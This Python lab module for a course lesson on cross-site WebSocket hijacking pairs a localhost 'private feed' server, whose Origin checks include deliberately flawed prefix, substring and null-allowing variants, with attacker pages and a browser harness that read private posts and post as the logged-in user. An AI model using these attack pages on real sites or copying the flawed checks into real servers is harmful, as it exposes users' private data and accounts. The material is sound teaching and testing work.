"""Cross-site WebSocket hijacking, live: a private feed, attacker pages, a real browser
(lesson 12).

``private_feed_app()`` is a feed with a login: ``POST /login`` (a form, ``user`` and
``password``) sets a session cookie with no ``SameSite`` attribute (so the browser's default
applies: Lax in Chromium, which lesson 12 drives; Firefox and Safari send it anywhere) and
``GET /ws`` opens a WebSocket that sends the logged-in user's private posts and publishes
``{"text": ...}`` under that user's name. How ``/ws`` checks the handshake's ``Origin`` is
switched at run time (``Gate``): not at all, an exact allow-list, or one of the classic
mistakes (a prefix match, a substring match, ``null`` allowed). Every handshake is recorded
server-side (``Handshake``): the ``Origin`` it carried, whether the session cookie came with
it, and what the server answered; the cookie's value is never kept there.

``attacker_app(target)`` serves pages that open ``new WebSocket(target)`` the way a hostile
page would, directly, from a sandboxed iframe (whose origin is ``null``) or as a ``file:``
page, and write what they saw into ``document.body.dataset.result``. ``Visit`` and
``try_pages`` drive them in Chromium; ``forged_handshake`` is the fallback without a browser: a
Python client that sends any ``Origin`` it likes (and so proves nothing about browsers).
"""

from __future__ import annotations

import html
import json
import secrets
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from aiohttp import WSMsgType, web

from servers.http import json_error

COOKIE = "session"
USER = "learner"
PRIVATE_POSTS = ["my draft: resignation letter", "dentist on Tuesday at 9"]


def exact(*allowed: str) -> Callable[[str | None], bool]:
    """The fix: the ``Origin`` must equal one of ``allowed`` (scheme, host and port)."""
    return lambda origin: origin in allowed


def prefix(allowed: str) -> Callable[[str | None], bool]:
    """A mistake: ``origin.startswith(allowed)``."""
    return lambda origin: origin is not None and origin.startswith(allowed)


def substring(allowed: str) -> Callable[[str | None], bool]:
    """A mistake: ``allowed in origin``."""
    return lambda origin: origin is not None and allowed in origin


def with_null(check: Callable[[str | None], bool]) -> Callable[[str | None], bool]:
    """A mistake: ``check``, plus ``null`` "for local files"."""
    return lambda origin: origin == "null" or check(origin)


def anything(origin: str | None) -> bool:
    """No check at all (aiohttp's and the ``websockets`` library's default)."""
    return True


@dataclass
class Gate:
    """What ``/ws`` requires, changed between attempts: ``origin(origin) -> bool`` (a missing
    ``Origin``, not a browser's handshake, is passed as ``None``), and ``auth`` (a session
    cookie) on or off."""

    origin: Callable[[str | None], bool] = anything
    auth: bool = True
    """Off: no session needed, every socket is taken for the owner's (a local tool with no
    login, as Jupyter would be without its token)."""
    let_missing_origin: bool = True


@dataclass(frozen=True)
class Handshake:
    """One ``/ws`` handshake as the server saw it (never the cookie's value)."""

    origin: str | None
    cookie: bool
    status: int
    reason: str


@dataclass
class FeedState:
    gate: Gate = field(default_factory=Gate)
    password: str = field(default_factory=lambda: secrets.token_urlsafe(12))
    sessions: dict[str, str] = field(default_factory=dict)
    handshakes: list[Handshake] = field(default_factory=list)
    published: list[tuple[str, str]] = field(default_factory=list)
    """``(user, text)`` of every post published over ``/ws``."""


STATE = web.AppKey("hijack_state", FeedState)

LOGIN_PAGE = """<!doctype html><title>private feed</title>
<form method="post" action="/login">
  <input name="user" value="{user}"> <input name="password" type="password">
  <button>log in</button>
</form><p id="who">{who}</p>"""


def private_feed_app(cookie_attributes: str = "HttpOnly; Path=/") -> web.Application:
    """The private feed: ``GET /`` a login form, ``POST /login``, ``GET /ws``; its state in
    ``app[STATE]`` (``.gate`` to change the checks, ``.handshakes`` to read them)."""
    state = FeedState()

    async def home(request: web.Request) -> web.Response:
        user = state.sessions.get(request.cookies.get(COOKIE, ""))
        who = f"logged in as {user}" if user else "not logged in"
        return web.Response(text=LOGIN_PAGE.format(user=USER, who=who), content_type="text/html")

    async def login(request: web.Request) -> web.Response:
        form = await request.post()
        if form.get("user") != USER or form.get("password") != state.password:
            return json_error(403, "wrong user or password")
        token = secrets.token_urlsafe(24)
        state.sessions[token] = USER
        cookie = f"{COOKIE}={token}; {cookie_attributes}"
        raise web.HTTPSeeOther("/", headers={"Set-Cookie": cookie})

    async def ws(request: web.Request) -> web.StreamResponse:
        origin = request.headers.get("Origin")
        user = state.sessions.get(request.cookies.get(COOKIE, ""))
        cookie = user is not None

        def refuse(status: int, reason: str) -> web.Response:
            state.handshakes.append(Handshake(origin, cookie, status, reason))
            return json_error(status, reason)

        gate = state.gate
        if origin is None and not gate.let_missing_origin:
            return refuse(403, "no Origin")
        if origin is not None and not gate.origin(origin):
            return refuse(403, f"Origin {origin!r} is not allowed")
        if gate.auth and user is None:
            return refuse(401, "no valid session cookie")
        if not gate.auth:
            user = USER  # no auth: whoever reaches the socket is taken for its owner
        state.handshakes.append(Handshake(origin, cookie, 101, "switched"))
        socket = web.WebSocketResponse()
        await socket.prepare(request)
        await socket.send_json({"user": user, "private": PRIVATE_POSTS})
        async for message in socket:
            if message.type != WSMsgType.TEXT:
                continue
            text = json.loads(message.data).get("text", "")
            state.published.append((user, text))
            await socket.send_json({"published": text, "as": user})
        return socket

    app = web.Application()
    app[STATE] = state
    app.router.add_get("/", home)
    app.router.add_post("/login", login)
    app.router.add_get("/ws", ws)
    return app


OPEN_SOCKET = """
const report = result => { %(report)s };
const result = {opened: false, messages: [], close: null, origin: String(location.origin)};
const ws = new WebSocket(%(target)s);
ws.onopen = () => { result.opened = true; };
ws.onmessage = event => {
  const message = JSON.parse(event.data);
  result.messages.push(message);
  const text = "posted by a page on " + location.origin;
  if ("private" in message) ws.send(JSON.stringify({text}));
  else ws.close(1000);
};
ws.onclose = event => { result.close = event.code; report(result); };
"""

DIRECT = """<!doctype html><title>a page</title><script>%s</script>"""
SANDBOXED = """<!doctype html><title>a page with a sandboxed frame</title>
<iframe sandbox="allow-scripts" srcdoc="%s"></iframe>
<script>
addEventListener("message", event => {
  document.body.dataset.result = JSON.stringify(event.data);
});
</script>"""

IN_PAGE = "document.body.dataset.result = JSON.stringify(result);"
TO_PARENT = "parent.postMessage(result, '*');"


def socket_script(target: str, report: str = IN_PAGE) -> str:
    """The attacker's script: open ``target``, read, publish one post, close, ``report``."""
    return OPEN_SOCKET % {"target": json.dumps(target), "report": report}


def direct_page(target: str) -> str:
    return DIRECT % socket_script(target)


def sandboxed_page(target: str) -> str:
    """A page whose sandboxed iframe (``allow-scripts`` without ``allow-same-origin``: an
    opaque origin, sent as ``Origin: null``) opens the socket."""
    inner = f"<!doctype html><script>{socket_script(target, TO_PARENT)}</script>"
    return SANDBOXED % html.escape(inner, quote=True)


def attacker_app(target: str) -> web.Application:
    """Pages that open ``new WebSocket(target)``: ``/`` directly, ``/sandboxed`` from a
    sandboxed iframe."""

    async def direct(request: web.Request) -> web.Response:
        return web.Response(text=direct_page(target), content_type="text/html")

    async def sandboxed(request: web.Request) -> web.Response:
        return web.Response(text=sandboxed_page(target), content_type="text/html")

    app = web.Application()
    app.router.add_get("/", direct)
    app.router.add_get("/sandboxed", sandboxed)
    return app


def file_page(target: str, folder: str) -> str:
    """Write the direct page into ``folder`` and return its ``file:`` URL."""
    path = Path(folder) / "attack.html"
    path.write_text(direct_page(target))
    return path.as_uri()


@dataclass(frozen=True)
class Visit:
    """What one attacker page saw (from the page) and did (from the server)."""

    page: str
    opened: bool
    close: int | None
    read_private: bool
    published_as: str | None
    handshake: Handshake | None

    @property
    def hijacked(self) -> bool:
        """The page read the private posts and published as the logged-in user."""
        return self.read_private and self.published_as == USER


async def log_in(browser, feed_url: str, password: str) -> None:
    """Log in through the feed's form, as the learner would, in a tab that stays open."""
    page = await browser.new_page()
    await page.goto(feed_url + "/")
    await page.fill("input[name=password]", password)
    await page.click("button")
    await page.wait_for_selector("#who:has-text('logged in as')")


async def visit(tab, page_url: str, state: FeedState, timeout_ms: float) -> Visit:
    """Go to ``page_url`` in ``tab``, wait for its report, match it with the server's record."""
    before = len(state.handshakes)
    published_before = len(state.published)
    await tab.goto(page_url)
    await tab.wait_for_function("document.body && document.body.dataset.result",
                                timeout=timeout_ms)
    result = json.loads(await tab.evaluate("document.body.dataset.result"))
    seen = state.handshakes[before:]
    posts = state.published[published_before:]
    messages = result["messages"]
    return Visit(
        page=page_url,
        opened=result["opened"],
        close=result["close"],
        read_private=any(m.get("private") for m in messages),
        published_as=posts[0][0] if posts else None,
        handshake=seen[0] if seen else None,
    )


async def try_pages(tab, pages: dict[str, str], state: FeedState,
                    timeout_ms: float) -> dict[str, Visit]:
    """Visit each of ``pages`` (name → URL) in turn, in one tab."""
    return {name: await visit(tab, url, state, timeout_ms) for name, url in pages.items()}


@dataclass(frozen=True)
class Trial:
    """A ``Gate`` on ``/ws`` and the attacker pages (name → URL) tried against it."""

    gate: Gate
    pages: dict[str, str]


async def attack(feed, trials: dict[str, Trial], timeout_ms: float) -> dict[str, dict[str, Visit]]:
    """In one fresh Chromium: log in to ``feed`` (a served ``private_feed_app``) as the learner
    would, then for each trial set its gate and visit its pages."""
    from lab.browser import open_browser

    state = feed.app[STATE]
    results = {}
    async with open_browser() as browser:
        await log_in(browser, browser_url(feed), state.password)
        tab = await browser.new_page()  # the attacker's pages, one after another
        for name, trial in trials.items():
            state.gate = trial.gate
            results[name] = await try_pages(tab, trial.pages, state, timeout_ms)
    state.gate = Gate()
    return results


def browser_url(server, host: str = "localhost", path: str = "") -> str:
    """``server``'s URL as a browser would name it by ``host`` (any ``*.localhost`` name is
    loopback in Chromium), so pages on one port can be on different sites."""
    return f"http://{host}:{server.port}{path}"


SIBLING_DIGIT = 7


def serve_feed_and_sibling(name: str = "private-feed"):
    """The private feed on a port ``P`` below 6554 and an attacker's pages on ``10 P + 7``: a
    port whose origin, ``http://localhost:P7``, starts with the feed's own. Both loopback;
    ``(feed, pages)`` servers, re-served under the same names on a re-run."""
    import random

    from servers import serve

    tries = random.Random()
    for _ in range(50):
        port = tries.randrange(2000, 6553)
        try:
            feed = serve(private_feed_app(), name=name, port=port)
        except OSError:
            continue
        target = f"ws://localhost:{port}/ws"
        try:
            pages = serve(attacker_app(target), name=name + "-attacker",
                          port=10 * port + SIBLING_DIGIT)
        except OSError:
            feed.stop()
            continue
        return feed, pages
    raise OSError("no free pair of ports P and 10 P + 7 found in 50 tries")


def temporary_folder() -> tempfile.TemporaryDirectory:
    return tempfile.TemporaryDirectory(prefix="course-attack-")


async def forged_handshake(ws_url: str, origin: str | None, cookie: str | None) -> int:
    """The fallback without a browser: a handshake with any ``Origin`` and cookie a script
    cares to send; the HTTP status answered (101 when it switched)."""
    from websockets.asyncio.client import connect
    from websockets.exceptions import InvalidStatus

    headers = {"Cookie": f"{COOKIE}={cookie}"} if cookie else {}
    try:
        async with connect(ws_url, origin=origin, additional_headers=headers) as ws:
            await ws.recv()
            return 101
    except InvalidStatus as refused:
        return refused.response.status_code


def python_login(feed_url: str, password: str) -> str:
    """Log in with an HTTP client and return the session cookie's value (never print it)."""
    import httpx

    answer = httpx.post(feed_url + "/login", data={"user": USER, "password": password})
    return answer.cookies[COOKIE]


def table(visits: dict[str, Visit]) -> list[str]:
    """One line per visit: what the server saw and what the page got; no cookie values."""
    lines = [f"{'page':<34} {'Origin sent':<38} {'cookie':<7} {'answer':<7} "
             f"{'read private':<13} published as"]
    for name, v in visits.items():
        shake = v.handshake
        origin = "(none)" if shake is None or shake.origin is None else shake.origin
        cookie = "?" if shake is None else ("sent" if shake.cookie else "no")
        status = "?" if shake is None else str(shake.status)
        lines.append(f"{name:<34} {origin:<38} {cookie:<7} {status:<7} "
                     f"{'yes' if v.read_private else 'no':<13} {v.published_as or '—'}")
    return lines
